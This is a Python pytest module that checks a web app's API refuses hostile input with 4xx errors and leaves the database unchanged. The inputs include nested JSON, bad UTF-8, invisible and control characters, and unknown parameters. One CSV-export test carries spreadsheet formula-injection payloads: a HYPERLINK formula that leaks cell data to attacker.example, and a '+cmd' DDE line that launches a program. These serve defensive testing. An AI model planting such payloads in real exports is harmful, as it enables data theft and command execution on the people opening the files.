"""What a stranger's probe sends gets a 4xx naming the problem, never a 500, and changes nothing."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from litestar.testing import TestClient

from tests.conftest import Api, count_rows


@pytest.fixture
def client(shared_client: TestClient[Any]) -> TestClient[Any]:
    return shared_client  # one app for the module: these probes are refused before they change anything


def _db(api: Api) -> str:
    return str(api.client.app.state["settings"].effective_database_url)


def _keys(response: Any) -> list[str]:
    return [item.get("key", "") for item in response.json().get("extra", [])]


@pytest.mark.parametrize("path", ["/api/auth/login", "/api/auth/register"])
def test_deeply_nested_json_is_a_400(api: Api, path: str) -> None:
    before = count_rows(_db(api), "accounts")
    for depth in (972, 5000):
        response = api.client.post(
            path, content=b"[" * depth + b"]" * depth, headers={"content-type": "application/json"}
        )
        assert response.status_code == 400, response.text
    assert "nested too deeply" in response.json()["detail"]
    assert count_rows(_db(api), "accounts") == before


@pytest.mark.parametrize("path", ["/api/auth/login", "/api/auth/register"])
def test_invalid_utf8_is_a_400(api: Api, path: str) -> None:
    before = count_rows(_db(api), "accounts")
    body = b'{"email": "\xff\xfe@example.org", "password": "long enough password", "display_name": "X"}'
    response = api.client.post(path, content=body, headers={"content-type": "application/json"})
    assert response.status_code == 400, response.text
    assert "UTF-8" in response.json()["detail"]
    assert count_rows(_db(api), "accounts") == before


@pytest.mark.parametrize(
    ("name", "character"),
    [
        ("Dr\x00 Hoxha", "U+0000"),
        ("Dr Hoxha\u202e", "U+202E"),  # right-to-left override: shows other text than it holds
        ("Dr\u200b Hoxha", "U+200B"),  # zero-width space
        ("Dr Hoxha\x1b[31m", "U+001B"),  # terminal escape
    ],
)
def test_control_and_invisible_characters_are_refused_naming_the_field(
    api: Api, name: str, character: str
) -> None:
    before = count_rows(_db(api), "accounts")
    response = api.client.post(
        "/api/auth/register",
        json={"email": "dr.hoxha@example.org", "password": "long enough password", "display_name": name},
    )
    assert response.status_code == 400, response.text
    assert "display_name" in _keys(response)
    assert character in response.text
    assert count_rows(_db(api), "accounts") == before


def test_a_name_of_spaces_is_refused(api: Api) -> None:
    response = api.client.post(
        "/api/auth/register",
        json={"email": "blank@example.org", "password": "long enough password", "display_name": "   "},
    )
    assert response.status_code == 400
    assert "display_name" in _keys(response)
    assert "blank" in response.text


def test_nested_texts_are_checked_too_and_nothing_is_written(api: Api) -> None:
    member = api.register()
    before = api.profile(member, headline="Cardiologist")
    for body, key in (
        ({"headline": "Cardio\u2066logist"}, "headline"),
        ({"skills": [{"name": "echo\x07cardiography"}]}, "skills[0]"),
        ({"sectors": ["health", "\ufeffit"]}, "sectors[1]"),
    ):
        response = api.client.put("/api/profiles/me", headers=member, json=body)
        assert response.status_code == 400, response.text
        assert key in _keys(response), response.text
    assert api.client.get("/api/profiles/me", headers=member).json() == before


def test_text_is_stored_in_composed_form(api: Api) -> None:
    member = api.register(display_name="Dz\u030cemal")  # "Džemal" typed with a combining caron
    assert api.client.get("/api/me", headers=member).json()["display_name"] == "D\u017eemal"
    profile = api.profile(member, headline="Kardiolo\u0161ki tehni\u010dar", skills=[{"name": "c\u030cesto"}])
    assert profile["skills"][0]["name"] == "\u010desto"


def test_unknown_query_parameters_are_refused(api: Api) -> None:
    response = api.client.get("/api/posts", params={"contry": "AL"})
    assert response.status_code == 400
    assert _keys(response) == ["contry"]
    assert "country" in response.json()["detail"]  # what the endpoint does take
    assert api.client.get("/api/posts", params={"country": "AL"}).status_code == 200
    admin = api.admin()
    for params in ({"limit": -1}, {"limit": 0}, {"limit": 101}, {"offset": -1}, {"sort": "name"}):
        assert api.client.get("/api/campaigns", headers=admin, params=params).status_code == 400
    page = api.client.get("/api/campaigns", headers=admin, params={"limit": 5}).json()
    assert (page["limit"], page["offset"], page["total"]) == (5, 0, 0)
    # Every list pages, the member's own lists and a campaign's pairs too.
    member = api.register("member")
    for url in ("/api/me/invitations", "/api/me/interests"):
        assert api.client.get(url, headers=member, params={"limit": -1}).status_code == 400
        page = api.client.get(url, headers=member, params={"limit": 3, "offset": 1}).json()
        assert (page["total"], page["limit"], page["offset"], page["items"]) == (0, 3, 1, [])
    # Search takes one parameter per filterable attribute, and names the unknown ones itself.
    response = api.client.get("/api/search/posts", params={"colour": "red"})
    assert response.status_code == 400
    assert _keys(response) == ["colour"]


@pytest.mark.slow
def test_campaign_csv_cannot_carry_formulas(api: Api) -> None:
    admin = api.admin()
    staff = api.register("organisation_staff")
    evil_name = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    organisation = api.client.post(
        "/api/organisations", headers=staff, json={"name": evil_name, "kind": "hospital", "country": "AL"}
    ).json()
    api.client.post(f"/api/organisations/{organisation['id']}/verify", headers=admin)
    post = api.post(
        staff, required_skills=[{"name": "+cmd|' /C calc'!A0"}, {"name": "@SUM(1+1)"}, {"name": "-2+3"}]
    )
    ministry, _ = api.ministry(admin=admin)
    campaign = api.client.post(
        "/api/campaigns", headers=ministry, json={"name": "Health week", "post_ids": [post["id"]]}
    ).json()
    response = api.client.get(
        f"/api/campaigns/{campaign['id']}/dashboard", headers=ministry, params={"format": "csv"}
    )
    assert response.status_code == 200
    assert response.headers.get_list("content-type") == ["text/csv; charset=utf-8"]
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert "'" + evil_name in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(cell.startswith("'@SUM") for cell in cells) or any("'@SUM" in cell for cell in cells)


@pytest.mark.parametrize(
    "path",
    [
        "/api/posts?q=a%00b",
        "/api/stories?q=a%00b",
        "/stories?q=a%00b",
        "/api/search/posts?q=%07x",
        "/posts?q=a%00b",
    ],
)
def test_control_characters_in_a_query_are_a_400_on_either_database(api: Api, path: str) -> None:
    # A NUL in a search box reached PostgreSQL, which refuses it in any text: the answer was a 500.
    response = api.client.get(path)
    assert response.status_code == 400, response.text
    assert "control character" in response.text
